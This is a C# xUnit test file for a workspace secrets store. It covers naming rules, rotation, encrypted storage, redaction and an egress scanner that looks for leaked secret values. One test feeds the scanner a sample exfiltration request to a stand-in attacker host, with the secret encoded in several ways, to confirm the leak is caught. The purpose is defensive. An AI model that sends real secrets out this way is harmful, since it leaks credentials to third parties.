using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Data.Sqlite;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using Platform.Grains.Interfaces.Secrets;
using Platform.Grains.Interfaces.Security;
using Platform.Grains.Interfaces.Workspaces;
using Platform.Grains.Security;
using Platform.Grains.Workspaces;
using Platform.Silo.Storage;
using Platform.Testing;

namespace Platform.Grains.Tests.Secrets;

/// <summary>The secrets grain in a silo over SQLite with the workspace key file beside it.</summary>
public sealed class SecretsGrainTests : IAsyncLifetime
{
    // 27 bytes, so its base64 has no padding, and with '+' in its base64 so that base64url differs from it.
    private const string Value = "sk-live/ab>c+DEF?~~01234567";
    private const string OtherValue = "ghp_another-secret-value-42";

    private readonly string _directory = Directory.CreateTempSubdirectory("secrets-").FullName;
    private readonly string _workspace = WorkspaceIds.NewWorkspaceId();
    private PlatformTestCluster _silo = null!;

    private ISecretsGrain Secrets => _silo.Grains.GetGrain<ISecretsGrain>(_workspace);

    public async ValueTask InitializeAsync() => _silo = await StartSiloAsync();

    public async ValueTask DisposeAsync()
    {
        await _silo.DisposeAsync();
        SqliteConnection.ClearAllPools();
        Directory.Delete(_directory, recursive: true);
    }

    [Fact]
    public async Task A_set_secret_is_listed_by_name_with_a_fingerprint_and_version_one_never_its_value()
    {
        var info = await Secrets.SetAsync("stripe.key", Value, "alice");

        Assert.Equal("stripe.key", info.Name);
        Assert.Equal(1, info.Version);
        Assert.Equal("user", info.ManagedBy);
        Assert.StartsWith("fp_", info.Fingerprint, StringComparison.Ordinal);
        Assert.Equal(_silo.Time.GetUtcNow(), info.CreatedAt);
        Assert.Null(info.LastUsedAt);
        Assert.Equal(info, Assert.Single(await Secrets.ListAsync()));
        Assert.DoesNotContain(Value, info.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_list_is_ordered_by_name()
    {
        await Secrets.SetAsync("zeta", Value, "alice");
        await Secrets.SetAsync("alpha", OtherValue, "alice");
        await Secrets.SetAsync("m-1", Value + "x", "alice");

        Assert.Equal(["alpha", "m-1", "zeta"], (await Secrets.ListAsync()).Select(s => s.Name));
    }

    [Theory]
    [InlineData("")]
    [InlineData("Upper")]
    [InlineData("-leading-dash")]
    [InlineData(".leading-dot")]
    [InlineData("has space")]
    [InlineData("slash/name")]
    [InlineData("secret://handle")]
    [InlineData("a234567890123456789012345678901234567890123456789012345678901234x")]
    public async Task A_malformed_name_is_refused(string name)
    {
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.SetAsync(name, Value, "alice"));

        Assert.Empty(await Secrets.ListAsync());
    }

    [Fact]
    public async Task A_name_of_sixty_four_characters_is_accepted()
    {
        var name = "a" + new string('b', 63);

        Assert.Equal(name, (await Secrets.SetAsync(name, Value, "alice")).Name);
    }

    [Fact]
    public async Task Connector_names_cannot_be_set_rotated_or_deleted_by_people()
    {
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", OtherValue, "connector:con0123456789ab");

        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.SetAsync("connector.mine", Value, "alice"));
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.RotateAsync("connector.con0123456789ab.access", Value, "alice"));
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.DeleteAsync("connector.con0123456789ab.access", "alice"));
        var managed = Assert.Single(await Secrets.ListAsync());
        Assert.Equal("connector:con0123456789ab", managed.ManagedBy);
    }

    [Theory]
    [InlineData("")]
    [InlineData("1234567")]
    [InlineData("short")]
    public async Task A_value_too_short_for_the_egress_scan_to_find_is_refused(string value)
    {
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.SetAsync("pin", value, "alice"));

        Assert.Empty(await Secrets.ListAsync());
    }

    [Fact]
    public async Task A_value_of_eight_bytes_is_the_shortest_accepted()
    {
        Assert.Equal(1, (await Secrets.SetAsync("pin", "12345678", "alice")).Version);
    }

    [Fact]
    public async Task A_value_longer_than_the_limit_is_refused()
    {
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.SetAsync("pem", new string('k', 16 * 1024 + 1), "alice"));
    }

    [Fact]
    public async Task Setting_a_name_in_use_is_a_conflict_and_keeps_the_first_value()
    {
        var first = await Secrets.SetAsync("api", Value, "alice");

        await Assert.ThrowsAsync<WorkspaceConflictException>(() => Secrets.SetAsync("api", OtherValue, "bob"));

        Assert.Equal(first, Assert.Single(await Secrets.ListAsync()));
        Assert.Equal(Value, await Secrets.ResolveAsync("api", "test"));
    }

    [Fact]
    public async Task Rotating_or_deleting_an_unknown_secret_is_not_found()
    {
        await Assert.ThrowsAsync<WorkspaceNotFoundException>(() => Secrets.RotateAsync("nope", Value, "alice"));
        await Assert.ThrowsAsync<WorkspaceNotFoundException>(() => Secrets.DeleteAsync("nope", "alice"));
        await Assert.ThrowsAsync<WorkspaceNotFoundException>(() => Secrets.ResolveAsync("secret://nope", "run:r1"));
    }

    [Fact]
    public async Task Rotation_changes_value_fingerprint_and_version_but_keeps_creation_time()
    {
        var set = await Secrets.SetAsync("api", Value, "alice");
        _silo.Time.Advance(TimeSpan.FromMinutes(5));

        var rotated = await Secrets.RotateAsync("api", OtherValue, "alice");

        Assert.Equal(2, rotated.Version);
        Assert.NotEqual(set.Fingerprint, rotated.Fingerprint);
        Assert.Equal(set.CreatedAt, rotated.CreatedAt);
        Assert.Equal(set.RotatedAt + TimeSpan.FromMinutes(5), rotated.RotatedAt);
        Assert.Equal(OtherValue, await Secrets.ResolveAsync("api", "test"));
        Assert.NotNull(await Secrets.InspectEgressAsync($"x {OtherValue} y"));
        Assert.NotNull(await Secrets.InspectEgressAsync($"x {Value} y"));
    }

    [Fact]
    public async Task Rotating_to_the_same_value_still_gives_a_new_fingerprint()
    {
        var set = await Secrets.SetAsync("api", Value, "alice");

        var rotated = await Secrets.RotateAsync("api", Value, "alice");

        Assert.NotEqual(set.Fingerprint, rotated.Fingerprint);
    }

    [Fact]
    public async Task A_deleted_secret_leaves_the_list_and_can_be_set_again()
    {
        await Secrets.SetAsync("api", Value, "alice");

        await Secrets.DeleteAsync("api", "alice");

        Assert.Empty(await Secrets.ListAsync());
        Assert.Equal(1, (await Secrets.SetAsync("api", OtherValue, "alice")).Version);
    }

    [Fact]
    public async Task Resolving_by_name_or_handle_answers_the_value_and_records_the_use()
    {
        await Secrets.SetAsync("api", Value, "alice");
        _silo.Time.Advance(TimeSpan.FromMinutes(1));

        Assert.Equal(Value, await Secrets.ResolveAsync("secret://api", "run:run1"));
        var afterHandle = Assert.Single(await Secrets.ListAsync());
        _silo.Time.Advance(TimeSpan.FromMinutes(1));
        Assert.Equal(Value, await Secrets.ResolveAsync("api", "run:run2"));
        var afterName = Assert.Single(await Secrets.ListAsync());

        Assert.Equal("run:run1", afterHandle.LastUsedBy);
        Assert.Equal(afterHandle.CreatedAt + TimeSpan.FromMinutes(1), afterHandle.LastUsedAt);
        Assert.Equal("run:run2", afterName.LastUsedBy);
        Assert.Equal(afterHandle.CreatedAt + TimeSpan.FromMinutes(2), afterName.LastUsedAt);
    }

    [Fact]
    public async Task Last_use_survives_a_rotation_and_a_restart()
    {
        await Secrets.SetAsync("api", Value, "alice");
        await Secrets.ResolveAsync("api", "run:run1");
        await Secrets.RotateAsync("api", OtherValue, "alice");

        await RestartAsync();

        var info = Assert.Single(await Secrets.ListAsync());
        Assert.Equal("run:run1", info.LastUsedBy);
        Assert.Equal(2, info.Version);
        Assert.Equal(OtherValue, await Secrets.ResolveAsync("api", "test"));
    }

    [Fact]
    public async Task The_stored_row_holds_neither_the_value_nor_any_common_encoding_of_it()
    {
        await Secrets.SetAsync("api", Value, "alice");
        await Secrets.ResolveAsync("api", "run:run1");
        var bytes = Encoding.UTF8.GetBytes(Value);

        var row = await ReadRowAsync();

        Assert.Contains("api", row, StringComparison.Ordinal);
        Assert.DoesNotContain(Value, row, StringComparison.Ordinal);
        Assert.DoesNotContain("sk-live", row, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToBase64String(bytes).TrimEnd('='), row, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToBase64String(bytes).Replace('+', '-').Replace('/', '_').TrimEnd('='), row, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToHexStringLower(bytes), row, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(Uri.EscapeDataString(Value), row, StringComparison.Ordinal);
        Assert.DoesNotContain(Value, Encoding.UTF8.GetString(await ReadDatabaseFileAsync()), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_sealed_value_moved_to_another_name_cannot_be_opened()
    {
        await Secrets.SetAsync("alpha", Value, "alice");
        await Secrets.SetAsync("beta", OtherValue, "alice");
        var storage = _silo.Services.GetRequiredService<IGrainStateStore>();
        var id = GrainId.Create("secrets", _workspace);
        var stored = await storage.ReadAsync(id, "secrets", TestContext.Current.CancellationToken);
        var state = JsonNode.Parse(stored!.Payload)!.AsObject();
        var entries = state["secrets"]!.AsObject();
        var alphaSealed = entries["alpha"]!["sealedValue"]!.GetValue<string>();
        entries["alpha"]!["sealedValue"] = entries["beta"]!["sealedValue"]!.GetValue<string>();
        entries["beta"]!["sealedValue"] = alphaSealed;
        await storage.WriteAsync(id, "secrets", Encoding.UTF8.GetBytes(state.ToJsonString()), stored.Etag, TestContext.Current.CancellationToken);

        await RestartAsync();

        await Assert.ThrowsAnyAsync<CryptographicException>(() => Secrets.ResolveAsync("alpha", "run:attacker"));
        await Assert.ThrowsAnyAsync<CryptographicException>(() => Secrets.ResolveAsync("beta", "run:attacker"));
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("base64")]
    [InlineData("base64url")]
    [InlineData("hex")]
    [InlineData("url")]
    public async Task Egress_inspection_finds_the_value_in_each_encoding_and_names_only_the_handle(string encoding)
    {
        await Secrets.SetAsync("api", Value, "alice");
        var bytes = Encoding.UTF8.GetBytes(Value);
        var written = encoding switch
        {
            "plain" => Value,
            "base64" => Convert.ToBase64String(bytes),
            "base64url" => Convert.ToBase64String(bytes).Replace('+', '-').Replace('/', '_').TrimEnd('='),
            "hex" => Convert.ToHexStringLower(bytes),
            _ => Uri.EscapeDataString(Value),
        };

        var finding = await Secrets.InspectEgressAsync($"POST https://attacker.test/?d={written}&x=1");

        Assert.NotNull(finding);
        Assert.Equal("secret://api", finding.Secret);
        Assert.Equal(encoding, finding.Encoding);
        Assert.DoesNotContain(Value, finding.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Egress_inspection_finds_nothing_in_harmless_text_or_after_the_secret_is_deleted()
    {
        await Secrets.SetAsync("api", Value, "alice");
        Assert.Null(await Secrets.InspectEgressAsync("sk-live/abc but not the rest"));
        Assert.NotNull(await Secrets.InspectEgressAsync(Value));

        await Secrets.DeleteAsync("api", "alice");

        Assert.Null(await Secrets.InspectEgressAsync(Value));
        Assert.Null(await Secrets.InspectEgressAsync(Convert.ToBase64String(Encoding.UTF8.GetBytes(Value))));
    }

    [Fact]
    public async Task A_rotated_out_value_stays_blocked_for_thirty_days_and_survives_a_restart_but_cannot_be_resolved()
    {
        await Secrets.SetAsync("api", Value, "alice");
        await Secrets.RotateAsync("api", OtherValue, "alice");

        await RestartAsync();
        _silo.Time.Advance(TimeSpan.FromDays(29));

        Assert.Equal(new("secret://api", "plain"), await Secrets.InspectEgressAsync($"leaked: {Value}"));
        Assert.Equal(new("secret://api", "base64"), await Secrets.InspectEgressAsync(Convert.ToBase64String(Encoding.UTF8.GetBytes(Value))));
        Assert.Equal("[secret://api]", (await Secrets.RedactAsync(Value)).Content);
        Assert.Equal(OtherValue, await Secrets.ResolveAsync("api", "test"));
        Assert.DoesNotContain(Value, await ReadRowAsync(), StringComparison.Ordinal);

        _silo.Time.Advance(TimeSpan.FromDays(1));

        Assert.Null(await Secrets.InspectEgressAsync(Value));
        Assert.NotNull(await Secrets.InspectEgressAsync(OtherValue));
    }

    [Fact]
    public async Task A_secret_keeps_at_most_its_ten_newest_previous_values()
    {
        var values = Enumerable.Range(0, 13).Select(i => $"value-number-{i:D2}-long-enough").ToArray();
        await Secrets.SetAsync("api", values[0], "alice");
        foreach (var value in values.Skip(1))
        {
            await Secrets.RotateAsync("api", value, "alice");
        }

        Assert.Null(await Secrets.InspectEgressAsync(values[1]));
        Assert.Null(await Secrets.InspectEgressAsync(values[0]));
        foreach (var kept in values.Skip(2))
        {
            Assert.NotNull(await Secrets.InspectEgressAsync(kept));
        }
    }

    [Fact]
    public async Task Connector_tokens_replaced_by_a_refresh_are_not_kept()
    {
        const string Owner = "connector:con0123456789ab";
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", Value, Owner);
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", OtherValue, Owner);

        Assert.Null(await Secrets.InspectEgressAsync(Value));
        Assert.NotNull(await Secrets.InspectEgressAsync(OtherValue));
    }

    [Fact]
    public async Task Egress_inspection_of_an_empty_store_finds_nothing()
    {
        Assert.Null(await Secrets.InspectEgressAsync(Value));
    }

    [Fact]
    public async Task Redaction_replaces_every_occurrence_by_the_handle_and_lists_each_finding_once()
    {
        await Secrets.SetAsync("api", Value, "alice");
        await Secrets.SetAsync("gh", OtherValue, "alice");
        var base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes(Value));

        var redaction = await Secrets.RedactAsync($"a={Value}; b={Value}; c={base64}; d={OtherValue}.");

        Assert.Equal("a=[secret://api]; b=[secret://api]; c=[secret://api]; d=[secret://gh].", redaction.Content);
        Assert.Equal(
            [new("secret://api", "base64"), new("secret://api", "plain"), new("secret://gh", "plain")],
            redaction.Findings.OrderBy(f => f.Secret, StringComparer.Ordinal).ThenBy(f => f.Encoding, StringComparer.Ordinal));
    }

    [Fact]
    public async Task Redaction_of_text_without_a_secret_returns_it_unchanged()
    {
        await Secrets.SetAsync("api", Value, "alice");

        var redaction = await Secrets.RedactAsync("nothing to see here");

        Assert.Equal("nothing to see here", redaction.Content);
        Assert.Empty(redaction.Findings);
    }

    [Fact]
    public async Task Forgetting_all_empties_the_store_and_the_egress_matcher_and_is_idempotent()
    {
        await Secrets.SetAsync("api", Value, "alice");
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", OtherValue, "connector:con0123456789ab");

        await Secrets.ForgetAllAsync();
        await Secrets.ForgetAllAsync();

        Assert.Empty(await Secrets.ListAsync());
        Assert.Null(await Secrets.InspectEgressAsync(Value));
        await RestartAsync();
        Assert.Empty(await Secrets.ListAsync());
        Assert.DoesNotContain("api", await ReadRowAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Deleting_the_workspace_empties_the_secrets_and_destroys_the_data_key()
    {
        var workspace = _silo.Grains.GetGrain<IWorkspaceGrain>(_workspace);
        await workspace.CreateAsync("Acme", "owner-1", "Olive Owner");
        await Secrets.SetAsync("api", Value, "owner-1");

        await workspace.DeleteAsync(new ActingMember("owner-1", "000000000000", [WorkspaceRole.Owner]));

        Assert.Empty(await Secrets.ListAsync());
        Assert.Null(await Secrets.InspectEgressAsync(Value));
        Assert.True((await _silo.Grains.GetGrain<IWorkspaceKeyGrain>(_workspace).GetStatusAsync()).IsDestroyed);
        await Assert.ThrowsAsync<WorkspaceKeyDestroyedException>(() => Secrets.SetAsync("api", Value, "owner-1"));
        Assert.Empty(await Secrets.ListAsync());
    }

    [Fact]
    public async Task Secrets_of_one_workspace_are_invisible_to_another()
    {
        await Secrets.SetAsync("api", Value, "alice");
        var other = _silo.Grains.GetGrain<ISecretsGrain>(WorkspaceIds.NewWorkspaceId());

        Assert.Empty(await other.ListAsync());
        Assert.Null(await other.InspectEgressAsync(Value));
        await Assert.ThrowsAsync<WorkspaceNotFoundException>(() => other.ResolveAsync("api", "run:other"));
    }

    [Fact]
    public async Task Managed_secrets_are_replaced_in_place_and_deleted_together_by_their_owner()
    {
        const string owner = "connector:con0123456789ab";
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", "short", owner);
        await Secrets.SetManagedAsync("connector.con0123456789ab.access", OtherValue, owner);
        await Secrets.SetManagedAsync("connector.con0123456789ab.refresh", Value, owner);
        await Secrets.SetAsync("mine", Value + "-user", "alice");

        Assert.Equal(2, (await Secrets.ListAsync()).Single(s => s.Name.EndsWith(".access", StringComparison.Ordinal)).Version);
        await Secrets.DeleteManagedAsync(owner);
        await Secrets.DeleteManagedAsync(owner);

        Assert.Equal("mine", Assert.Single(await Secrets.ListAsync()).Name);
        await Assert.ThrowsAsync<ArgumentException>(() => Secrets.SetManagedAsync("plain-name", Value, owner));
    }

    private Task<PlatformTestCluster> StartSiloAsync(FakeTimeProvider? time = null) =>
        GrainsCluster.StartAsync(Register, time: time);

    private void Register(IServiceCollection services)
    {
        var configuration = new ConfigurationBuilder()
            .AddInMemoryCollection(new Dictionary<string, string?> { ["Platform:DataDirectory"] = _directory })
            .Build();
        services.AddSqliteGrainStorage(o => o.DataDirectory = _directory);
        services.AddWorkspaceEncryption(configuration);
        services.AddPlatformModelsAndTools(configuration);
    }

    private async Task RestartAsync()
    {
        var time = _silo.Time;
        await _silo.DisposeAsync();
        _silo = await StartSiloAsync(time);
    }

    private async Task<string> ReadRowAsync()
    {
        var stored = await _silo.Services.GetRequiredService<IGrainStateStore>()
            .ReadAsync(GrainId.Create("secrets", _workspace), "secrets", TestContext.Current.CancellationToken);
        return stored?.Payload is { } payload ? Encoding.UTF8.GetString(payload) : "";
    }

    private async Task<byte[]> ReadDatabaseFileAsync()
    {
        var bytes = new List<byte>();
        foreach (var file in Directory.GetFiles(_directory).Where(static f => !f.EndsWith("keys.json", StringComparison.Ordinal)))
        {
            await using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
            var buffer = new byte[stream.Length];
            await stream.ReadExactlyAsync(buffer, TestContext.Current.CancellationToken);
            bytes.AddRange(buffer);
        }

        return [.. bytes];
    }
}
